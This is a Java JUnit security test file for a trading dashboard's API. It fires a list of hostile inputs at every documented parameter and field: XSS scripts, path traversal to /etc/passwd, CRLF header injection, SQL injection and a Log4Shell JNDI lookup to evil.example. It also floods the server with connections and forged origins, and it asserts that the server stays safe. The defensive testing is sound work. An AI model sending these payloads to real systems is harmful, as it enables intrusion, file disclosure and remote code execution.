package io.mytrader.dashboard;

import static org.assertj.core.api.Assertions.assertThat;

import ch.qos.logback.classic.Logger;
import ch.qos.logback.classic.spi.ILoggingEvent;
import ch.qos.logback.core.read.ListAppender;
import io.mytrader.api.json.ApiJson;
import io.mytrader.dashboard.RunningDashboard.Answer;
import java.io.IOException;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.Socket;
import java.net.URLEncoder;
import java.net.http.HttpRequest;
import java.net.http.HttpRequest.BodyPublishers;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.slf4j.LoggerFactory;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.node.ObjectNode;

/**
 * Scripts and paths in every parameter and every text field that the interface's own description
 * names: refused, or shown as the text they are.
 */
class HostileTextTest {
    private static final List<String> TEXTS =
            List.of(
                    "<script>alert(1)</script>",
                    "\"><img src=x onerror=alert(1)>",
                    "../../../../etc/passwd",
                    "..\\..\\windows\\win.ini",
                    "/etc/passwd",
                    "file:///etc/passwd",
                    "%2e%2e%2fetc%2fpasswd",
                    "x\u0000.csv",
                    "a\r\nX-Injected: yes",
                    "' OR 1=1 --",
                    "${jndi:ldap://evil.example/a}");

    private @TempDir Path data;

    @Test
    void everyParameterAndEveryTextFieldIsHarmless() throws Exception {
        try (RunningDashboard dashboard = RunningDashboard.lively(data);
                SocketClient good = dashboard.connect();
                Said said = Said.everything()) {
            good.await("connected");
            assertThat(dashboard.post("/api/trading/start", "{}").status()).isEqualTo(200);
            JsonNode description = dashboard.get("/api/openapi.json").json();
            int tried = 0;
            for (Map.Entry<String, JsonNode> path : description.path("paths").properties()) {
                for (Map.Entry<String, JsonNode> operation : path.getValue().properties()) {
                    for (String text : TEXTS) {
                        tried +=
                                parameters(
                                        dashboard,
                                        operation.getKey(),
                                        path.getKey(),
                                        operation.getValue(),
                                        text);
                        tried += fields(dashboard, description, path, operation.getValue(), text);
                    }
                }
            }
            assertThat(tried).isGreaterThan(500);
            good.await("signal");
            assertThat(dashboard.get("/api/trading/status").json().path("is_running").asBoolean())
                    .isTrue();
            try (Stream<Path> files = Files.walk(data)) {
                assertThat(files.map(file -> data.relativize(file).toString()))
                        .noneMatch(name -> name.contains("script") || name.contains("passwd"));
            }
            assertThat(said.lines()).noneMatch(line -> line.contains("script"));
        }
    }

    private static int parameters(
            RunningDashboard dashboard, String method, String path, JsonNode operation, String text)
            throws Exception {
        int tried = 0;
        for (JsonNode parameter : operation.path("parameters")) {
            String name = parameter.path("name").asString();
            String encoded = URLEncoder.encode(text, StandardCharsets.UTF_8).replace("+", "%20");
            boolean isInPath = parameter.path("in").asString().equals("path");
            String address =
                    isInPath
                            ? path.replace("{" + name + "}", encoded)
                            : path + "?" + name + "=" + encoded;
            isHarmless(
                    answered(
                            dashboard,
                            dashboard
                                    .request(address)
                                    .method(
                                            method.toUpperCase(Locale.ROOT),
                                            BodyPublishers.noBody())
                                    .build()),
                    method + " " + address);
            tried++;
        }
        return tried;
    }

    /** A server may hang up after a refusal, just when the client sends the next request. */
    private static Answer answered(RunningDashboard dashboard, HttpRequest request)
            throws Exception {
        try {
            return dashboard.send(request);
        } catch (IOException hungUp) {
            return dashboard.send(request);
        }
    }

    private static int fields(
            RunningDashboard dashboard,
            JsonNode description,
            Map.Entry<String, JsonNode> path,
            JsonNode operation,
            String text)
            throws Exception {
        JsonNode body = operation.path("requestBody").path("content").path("application/json");
        String type = body.path("schema").path("$ref").asString("");
        if (type.isEmpty()) {
            return 0;
        }
        JsonNode fields = description.at(type.substring(1)).path("properties");
        int tried = 0;
        for (String field : fields.propertyNames()) {
            ObjectNode wish = ApiJson.mapper().createObjectNode();
            if (field.equals("settings")) {
                wish.putObject(field).put("trading.fixed_size", text).put(text, "1");
            } else {
                wish.put(field, text);
            }
            isHarmless(dashboard.post(path.getKey(), wish.toString()), path.getKey() + " " + wish);
            tried++;
        }
        return tried;
    }

    private static void isHarmless(Answer answer, String what) {
        assertThat(answer.status()).as(what).isIn(200, 400, 404, 409, 415, 422);
        assertThat(answer.header("X-Injected")).as(what).isEmpty();
        assertThat(answer.header("X-Content-Type-Options")).as(what).isEqualTo("nosniff");
        assertThat(answer.header("Content-Type"))
                .as(what)
                .matches("application/(problem\\+)?json.*|");
        assertThat(answer.response().body()).as(what).doesNotContain("root:");
    }

    @Test
    void twoThousandConnectionsLeaveTradingAloneAndTheLogShort() throws Exception {
        List<Socket> held = new ArrayList<>();
        try (RunningDashboard dashboard = RunningDashboard.lively(data);
                SocketClient good = dashboard.connect();
                Said said = Said.everything()) {
            good.await("connected");
            dashboard.post("/api/trading/start", "{}");
            int refused = 0;
            for (int i = 0; i < 2_000; i++) {
                Socket socket = new Socket();
                held.add(socket);
                try {
                    socket.connect(
                            new InetSocketAddress(
                                    InetAddress.getLoopbackAddress(), dashboard.port()),
                            5);
                    socket.getOutputStream()
                            .write(
                                    "GET / HTTP/1.1\r\nHost: loc"
                                            .getBytes(StandardCharsets.US_ASCII));
                } catch (IOException full) {
                    refused++;
                }
            }
            assertThat(refused).isPositive();
            good.await("signal");
            good.await("signal");
            for (Socket socket : held) {
                socket.close();
            }
            assertThat(dashboard.get("/api/trading/status").json().path("is_running").asBoolean())
                    .isTrue();
            assertThat(said.lines()).hasSizeLessThan(5);
        } finally {
            for (Socket socket : held) {
                socket.close();
            }
        }
    }

    @Test
    void whoIsRefusedAThousandTimesIsLoggedOnce() throws Exception {
        try (RunningDashboard dashboard = RunningDashboard.lively(data);
                SocketClient good = dashboard.connect();
                Said said = Said.everything()) {
            good.await("connected");
            dashboard.post("/api/trading/start", "{}");
            for (int i = 0; i < 300; i++) {
                Answer answer =
                        dashboard.send(
                                dashboard
                                        .request("/api/trading/flatten")
                                        .header("Origin", "http://evil" + i + ".example")
                                        .header("Content-Type", "application/json")
                                        .POST(BodyPublishers.ofString("{}"))
                                        .build());
                assertThat(answer.status()).isIn(403, 429);
            }
            for (int i = 0; i < 20; i++) {
                try (SocketClient bad = dashboard.connect()) {
                    bad.say("not json");
                    bad.awaitClose();
                }
            }
            good.await("signal");
            assertThat(said.lines())
                    .filteredOn(line -> line.contains("refused a client"))
                    .contains(
                            "refused a client at 127.0.0.1: requests from other sites are refused",
                            "refused a client at 127.0.0.1: not JSON")
                    .doesNotHaveDuplicates()
                    .hasSizeLessThanOrEqualTo(3)
                    .noneMatch(line -> line.contains("evil"));
        }
    }

    /** Every line of the log from now on. */
    private record Said(ListAppender<ILoggingEvent> appender) implements AutoCloseable {
        static Said everything() {
            ListAppender<ILoggingEvent> appender = new ListAppender<>();
            appender.start();
            root().addAppender(appender);
            return new Said(appender);
        }

        private static Logger root() {
            return (Logger) LoggerFactory.getLogger(org.slf4j.Logger.ROOT_LOGGER_NAME);
        }

        List<String> lines() {
            return List.copyOf(appender.list).stream()
                    .map(ILoggingEvent::getFormattedMessage)
                    .toList();
        }

        @Override
        public void close() {
            root().detachAppender(appender);
        }
    }
}
